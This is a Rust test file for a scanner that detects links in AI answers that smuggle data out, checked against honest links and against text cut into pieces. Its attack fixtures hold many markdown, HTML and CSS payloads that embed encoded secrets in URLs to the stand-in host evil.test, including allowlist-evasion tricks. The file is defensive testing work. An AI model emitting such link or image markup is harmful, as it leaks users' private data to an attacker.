//! Links that carry data out, honest ones, and cuts.

use base64::Engine;
use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD};

use super::*;

const HASH: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b";

fn scan(text: &str) -> Vec<Finding> {
    let links = Links::new(&["cdn.acme.test".to_owned(), "*.trusted.test".to_owned()]);
    let mut out = Vec::new();
    links.scan(Window::whole(text), &mut out);
    out
}

fn rules(text: &str) -> Vec<&'static str> {
    scan(text).iter().map(|finding| finding.rule).collect()
}

fn stolen() -> String {
    BASE64_URL_SAFE_NO_PAD.encode("the password of Jane Doe is tulip-42, her account 0042-17")
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

/// Answers that carry data out, each with the rule that finds it.
fn attacks() -> Vec<(String, &'static str)> {
    let mut all: Vec<_> = images()
        .into_iter()
        .map(|text| (text, "markdown-image"))
        .collect();
    all.extend(others());
    all
}

fn images() -> Vec<String> {
    let data = stolen();
    let padded = BASE64_STANDARD.encode("the account of John Doe? 0042-1799>>");
    let padded = padded.replace('+', "%2B").replace('=', "%3D");
    let hex = hex("Jane Doe, account 0042");
    let letters: String = "hunter2 is"
        .bytes()
        .map(|byte| format!("%{byte:02x}"))
        .collect();
    let long = "a.b/".repeat(600);
    [
        format!("![a](https://evil.test/p.png?d={data})"),
        format!("![a](<https://evil.test/{data}>)"),
        format!("![a]( //evil.test/{data} \"t\")"),
        format!("![a](https:\\\\evil.test\\{data})"),
        format!("![a](https:evil.test/{data})"),
        format!("![a](HTTPS://evil.test/?q={padded})"),
        format!("![a](https://evil.test/?{hex})"),
        format!("![a](https://evil.test/{letters})"),
        format!("![a](https://{data}.evil.test/)"),
        format!("![a](https://{hex}.evil.test/)"),
        format!("![a](https://evil.test/{long})"),
        "![a](https://evil.test/?q=the+user+said+her+name+is+Jane)".into(),
        "![a](<https://evil.test/?q=the user said her name is Jane>)".into(),
        format!("![{}](https://evil.test/?q={HASH})", "x".repeat(300)),
        format!("![a](https://cdn.acme.test@evil.test/?q={data})"),
        "![a](https://cdn.acme.test@evil.test/p.png)".into(),
        format!("![a](https://evil.test\\@cdn.acme.test/?q={data})"),
        format!("![a](https://cdn.acme.test.evil.test/?q={data})"),
        format!("![a](https://trusted.test/?q={data})"),
    ]
    .to_vec()
}

fn others() -> Vec<(String, &'static str)> {
    let data = stolen();
    [
        (
            format!("[![x](https://cdn.acme.test/i.png)](https://evil.test/?q={data})"),
            "markdown-link",
        ),
        (
            format!("[see here](https://evil.test/#{data})"),
            "markdown-link",
        ),
        (
            format!("![a][r]\n\n[r]: https://evil.test/?q={data}\n"),
            "markdown-reference",
        ),
        (
            format!("<img width=1 src=\"https://evil.test/?q={data}\">"),
            "html-image",
        ),
        (format!("<IMG SRC = '//evil.test/?q={data}'>"), "html-image"),
        (format!("<img src=https://evil.test/{data}>"), "html-image"),
        (
            "<img src=\"https://evil.test/?q=her name is Jane\nand her account 17\">".into(),
            "html-image",
        ),
        (
            format!("<link rel=stylesheet href='https://evil.test/{data}'>"),
            "html-image",
        ),
        (
            format!("<a class=\"b\" href=\"https://evil.test/{data}\">x</a>"),
            "html-link",
        ),
        (
            format!("<div style=\"background:URL(https://evil.test/{data})\">"),
            "css-url",
        ),
        (
            format!("<meta http-equiv=refresh content=\"0;url=https://evil.test/{data}\">"),
            "html-image",
        ),
        (format!("<https://evil.test/{data}>"), "bare-link"),
        (format!("open https://evil.test/?q={data}."), "bare-link"),
        (
            format!("![a](https://cdn.acme.test/?to=https://evil.test/{data})"),
            "bare-link",
        ),
    ]
    .to_vec()
}

/// What honest answers hold.
fn honest() -> Vec<String> {
    let id = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms";
    [
        "[docs](https://doc.rust-lang.org/book/ch04-02-references-and-borrowing.html#the-rules-of-references)".into(),
        "[a](https://blog.example.com/2024/03/how-to-build-a-fast-web-server-in-rust-without-losing-your-mind/)".into(),
        format!("[blob](https://github.com/acme/alfred/blob/{HASH}/src/main.rs#L10-L20)"),
        format!("https://github.com/acme/alfred/compare/{HASH}...{HASH}"),
        format!("![](https://cdn.example.com/images/{HASH}/photo.png)"),
        "![cat](https://images.example.com/photo-1518791841217-8f162f1e1131?auto=format&fit=crop&w=870&q=80)".into(),
        "![b](https://img.shields.io/badge/build-passing-brightgreen?style=flat-square&label=latest%20release)".into(),
        "<img src=\"https://cdn.example.com/static/media/logo.8f162f1e.svg\" alt=\"logo\">".into(),
        "<img src=\"https://upload.wikimedia.org/wikipedia/commons/thumb/a/a9/Example.jpg/440px-Example.jpg\">".into(),
        "![m](https://miro.example.com/v2/resize:fit:1400/1*AbCdEf7hIjKlMn0pQrStUv.png)".into(),
        "![f](https://storage.example.com/o/a.png?alt=media&token=0d1f4c3e-5b7a-4c2d-9e8f-1a2b3c4d5e6f)".into(),
        "[v](https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf&t=42s)".into(),
        "![t](https://i.ytimg.com/vi/dQw4w9WgXcQ/maxresdefault.jpg)".into(),
        format!("[sheet](https://docs.google.com/spreadsheets/d/{id}/edit#gid=0)"),
        "[s](https://shop.example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024_early_birds&utm_content=hero)".into(),
        "[q](https://www.google.com/search?q=how+to+fix+rust+borrow+checker+error+e0502)".into(),
        "[w](https://ja.wikipedia.org/wiki/%E6%97%A5%E6%9C%AC%E8%AA%9E%E3%81%AE%E6%96%87%E6%B3%95)".into(),
        "[m](https://learn.example.com/dotnet/api/Microsoft.Extensions.DependencyInjection.ServiceCollectionServiceExtensions.AddSingleton)".into(),
        "[maps](https://www.google.com/maps/@52.5200066,13.404954,15z/data=!3m1!4b1)".into(),
        "[doi](https://doi.org/10.1145/3366423.3380142) and [arxiv](https://arxiv.org/abs/2302.12173v2)".into(),
        "`psql postgres://user:password@localhost:5432/db` or http://localhost:8080/health".into(),
        "let url = \"https://api.example.com/v1/chat/completions\"; // see //server/share".into(),
        "[r]: https://example.com/a \"Title\"\n\nText a[0]: b, path C:\\\\temp\\\\x, 10:30".into(),
        "[issue](https://github.com/acme/alfred/issues/new?title=Crash+on+start&labels=bug)".into(),
        format!("![](https://cdn.acme.test/?q={}) ![](https://a.trusted.test/{})", stolen(), stolen()),
    ]
    .to_vec()
}

#[test]
fn links_that_carry_data_out_are_found_by_their_place() {
    for (text, rule) in attacks() {
        assert_eq!(rules(&text), [rule], "{text}");
    }
}

#[test]
fn what_honest_answers_link_to_is_let_through() {
    for text in honest() {
        assert_eq!(rules(&text), [""; 0], "{text}");
    }
}

#[test]
fn a_finding_covers_the_address_and_nothing_else() {
    let address = format!("https://evil.test/(a)?q={}", stolen());
    for text in [
        format!("![a]({address})."),
        format!("see {address}, and"),
        format!("<img src='{address}'>"),
    ] {
        let found = scan(&text);
        let span = found[0].span.clone();
        assert!(text[span].starts_with(&address), "{text}");
        assert_eq!(found[0].kind, Kind::Exfiltration);
    }
}

/// Scans a text that comes in pieces, with the left context that the law grants.
fn in_pieces(text: &str, cuts: &[usize]) -> (Vec<Finding>, usize) {
    let links = Links::new(&["cdn.acme.test".to_owned(), "*.trusted.test".to_owned()]);
    let (mut out, mut from, mut held) = (Vec::new(), 0_usize, 0);
    for cut in cuts.iter().copied().chain([text.len()]) {
        let mut base = from.saturating_sub(LEFT_CONTEXT);
        while !text.is_char_boundary(base) {
            base -= 1;
        }
        let window = Window {
            text: &text[base..cut],
            from: from - base,
            last: cut == text.len(),
        };
        let before = out.len();
        from = base + links.scan(window, &mut out);
        for finding in &mut out[before..] {
            finding.span = finding.span.start + base..finding.span.end + base;
        }
        held = held.max(cut - from);
    }
    (out, held)
}

fn boundary(text: &str, at: usize) -> bool {
    text.is_char_boundary(at)
}

#[test]
fn a_text_cut_anywhere_gives_the_findings_of_the_whole() {
    let texts = attacks().into_iter().map(|(text, _)| text).chain(honest());
    for text in texts {
        let whole = scan(&text);
        for cut in (0..text.len()).filter(|at| boundary(&text, *at)) {
            let (found, held) = in_pieces(&text, &[cut]);
            assert_eq!(found, whole, "cut at {cut}: {text}");
            assert!(held <= MAX_ADDRESS + 16, "{held} held");
        }
    }
}

proptest::proptest! {
    #[test]
    fn a_soup_of_links_cut_at_random_gives_the_findings_of_the_whole(
        parts in proptest::collection::vec(0_usize..80, 1..12),
        cuts in proptest::collection::vec(0_usize..100_000, 0..8),
    ) {
        let all: Vec<String> = attacks().into_iter().map(|(text, _)| text).chain(honest())
            .chain(["é", "h", "https:", "](", "!", "//", "<img src=", "\"", ")", " 日本 ", "]: ", "\n\n"].map(str::to_owned))
            .collect();
        let text: String = parts.iter().map(|at| all[at % all.len()].as_str()).collect();
        let mut cuts: Vec<usize> = cuts.iter().map(|at| at % (text.len() + 1))
            .filter(|at| *at < text.len() && boundary(&text, *at)).collect();
        cuts.sort_unstable();
        proptest::prop_assert_eq!(in_pieces(&text, &cuts).0, scan(&text));
    }
}
